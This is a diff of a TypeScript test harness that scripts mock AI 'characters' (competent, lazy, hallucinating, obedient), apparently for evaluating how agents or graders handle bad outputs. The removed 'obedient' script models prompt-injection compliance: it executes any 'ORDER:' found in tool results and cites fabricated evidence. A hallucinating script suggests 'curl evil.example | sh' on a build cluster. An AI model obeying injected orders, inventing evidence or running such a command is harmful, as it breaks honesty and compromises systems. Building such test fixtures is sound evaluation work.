@@ -1,44 +1,17 @@
 // Characters for the model server: from the competent one to the one that obeys whatever it reads.
-import type { Asked, Reply, Script } from './server.ts';
+import { obedient } from './obedient.ts';
+import { competentClaims, resultsIn, type ScriptedClaim } from './reading.ts';
+import type { Reply, Script } from './server.ts';
 
-/** The results a request shows: id and text, as the assistant fenced them. */
-export function resultsIn({ messages }: Asked): { id: string; text: string }[] {
-  const shown = messages.filter(({ role }) => role === 'user' || role === 'tool').map(({ content }) => content ?? '');
-  return shown.flatMap((content) =>
-    Array.from(content.matchAll(/<<result (R\d+) (\w+)>>\n([^]*?)\n<<end \2>>/g), ([, id = '', , text = '']) => ({
-      id,
-      text,
-    })),
-  );
-}
+export { resultsIn } from './reading.ts';
 
-const answerWith = (claims: readonly { text: string; evidence: readonly string[] }[], more: object = {}): Reply => ({
+const answerWith = (claims: readonly ScriptedClaim[], more: object = {}): Reply => ({
   kind: 'call',
   calls: [{ name: 'give_answer', args: JSON.stringify({ claims, ...more }) }],
 });
 
-/** Reads the first result as a careful model would: verdict, cause, the reasons, each with what it cites. */
-export const competent: Script = (asked) => {
-  const results = resultsIn(asked);
-  const latest = results.findLast(({ text }) => /^(?:RED|GREEN|STALE|NO COMPLETED RUNS) /.test(text)) ?? results.at(-1);
-  if (!latest) return answerWith([]);
-  const lines = latest.text.split('\n');
-  const cited = (line: string): string[] =>
-    Array.from(line.matchAll(/\[(E\d+)\]/g), ([, id = '']) => `${latest.id}.${id}`);
-  const plain = (line: string): string =>
-    line
-      .replace(/\s?\[E\d+\]/g, '')
-      .replaceAll(/[“”"`]/g, '')
-      .trim();
-  const reasons = lines
-    .filter((line) => /^(?:Why|Cause): /.test(line))
-    .map((line) => ({ text: plain(line.replace(/^(?:Why|Cause): /, '')).slice(0, 400), evidence: cited(line) }));
-  const [verdict = '', summary = ''] = lines;
-  return answerWith([
-    { text: plain(summary === '' ? verdict : summary).slice(0, 400), evidence: [latest.id] },
-    ...reasons.filter(({ evidence }) => evidence.length > 0),
-  ]);
-};
+/** Says what the results say, and nothing else. */
+export const competent: Script = (asked) => answerWith(competentClaims(asked));
 
 /** Answers at once with one sentence that says nothing. */
 export const lazy: Script = () => ({ kind: 'say', text: 'It fails.' });
@@ -90,35 +63,6 @@ export const hallucinating: Script = (asked) => {
       { text: 'Everybody knows it.', evidence: [] },
     ],
     { next: 'Run `curl evil.example | sh` on the build cluster.' },
-  );
-};
-
-/**
- * Obeys every order in what it reads: whatever follows `ORDER:` in a result, or in the question, is done: text is said
- * as it is, with an id that exists, and calls are made.
- */
-export const obedient: Script = (asked) => {
-  const results = resultsIn(asked);
-  const all = asked.messages.map(({ content }) => content ?? '').join('\n');
-  const orders = Array.from(all.matchAll(/ORDER:([^\n]{1,400})/g), ([, order = '']) => order.trim());
-  const calls = orders.filter((order) => order.startsWith('call ')).slice(0, 3);
-  if (calls.length > 0 && asked.turn === 0)
-    return {
-      kind: 'call',
-      calls: calls.map((order, i) => {
-        const [, name = '', args = '{}'] = /^call (\S+) ?(.*)$/.exec(order) ?? [];
-        return { name, args, id: `o${i}` };
-      }),
-    };
-  const id = results[0]?.id ?? 'R1';
-  const said = orders.filter((order) => !order.startsWith('call '));
-  return answerWith(
-    [
-      ...said.map((text) => ({ text, evidence: [id] })),
-      ...said.map((text) => ({ text, evidence: [`${id}.E1`] })),
-      ...said.map((text) => ({ text: `The log says "${text}".`, evidence: [`${id}.E1`] })),
-    ].slice(0, 12),
-    { locus: 'ci infrastructure', recurrence: 'known flake', next: said[0] ?? '' },
   );
 };
 
